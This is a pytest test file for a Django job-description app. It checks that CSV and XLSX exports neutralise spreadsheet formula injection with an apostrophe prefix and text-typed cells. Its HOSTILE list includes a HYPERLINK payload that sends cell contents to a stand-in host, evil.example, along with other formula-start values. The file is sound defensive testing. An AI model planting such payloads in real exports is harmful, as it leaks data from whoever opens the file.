"""Every CSV and XLSX the app writes keeps texts that look like formulas inert: an apostrophe, and text cells."""

import ast
import csv
import io
import pathlib

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from jobdesc import exports
from jobdesc.orgs.models import Employee, Position
from tests.conftest import approve_through_workflow

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert exports.inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Менеджер", "a=b", "", 5, -5, None, 1.5])
def test_other_values_stay_as_they_are(value):
    assert exports.inert(value) == value


def test_xlsx_cells_are_text_not_formulas_and_control_characters_are_dropped():
    workbook = Workbook()
    exports.append(workbook.active, ["=1+2", "Иванов\x01", 7])
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(workbook))).active
    first, second, third = sheet[1]
    assert (first.value, first.data_type) == ("'=1+2", "s")
    assert second.value == "Иванов"
    assert (third.value, third.data_type) == (7, "n")


@pytest.fixture
def hostile_export(organisation, position, hr, lawyer, approver, complete_draft):
    """An approved instruction whose position and employee carry formula-like texts."""
    Position.objects.filter(pk=position.pk).update(title="=HYPERLINK(1)")
    Employee.objects.create(organisation=organisation, full_name="@SUM(1+1) Иван Иванович", position=position)
    return approve_through_workflow(complete_draft, hr, [lawyer], approver)


def _csv_cells(content: bytes):
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


def _xlsx_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("url", ["instructions:journal_export", "instructions:ack_export"])
def test_the_exports_write_formula_like_texts_inert(hostile_export, hr_client, url):
    csv_cells = _csv_cells(hr_client.get(reverse(url, args=["csv"])).content)
    assert not [cell for cell in csv_cells if cell.startswith(exports.FORMULA_STARTS)]
    assert "'=HYPERLINK(1)" in csv_cells
    xlsx_cells = _xlsx_cells(hr_client.get(reverse(url, args=["xlsx"])).content)
    assert not [cell for cell in xlsx_cells if cell.data_type == "f"]
    assert "'=HYPERLINK(1)" in [cell.value for cell in xlsx_cells]


def test_the_acknowledgement_sheet_keeps_an_employees_formula_like_name_inert(hostile_export, hr_client):
    cells = _csv_cells(hr_client.get(reverse("instructions:ack_export", args=["csv"])).content)
    assert "'@SUM(1+1) Иван Иванович" in cells


def test_no_module_writes_a_csv_or_a_sheet_row_except_through_the_helper():
    """A new export cannot forget the rule: csv.writer and sheet.append appear only in jobdesc/exports.py."""
    root = pathlib.Path(__file__).resolve().parents[2] / "jobdesc"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "exports.py" and path.parent == root:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "writerow", "writerows"):
                offenders.append(f"{path.relative_to(root)}:{node.lineno} {node.attr}")
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "append":
                target = node.func.value
                if isinstance(target, ast.Name) and target.id in ("sheet", "worksheet", "ws"):
                    offenders.append(f"{path.relative_to(root)}:{node.lineno} {target.id}.append")
    assert offenders == []
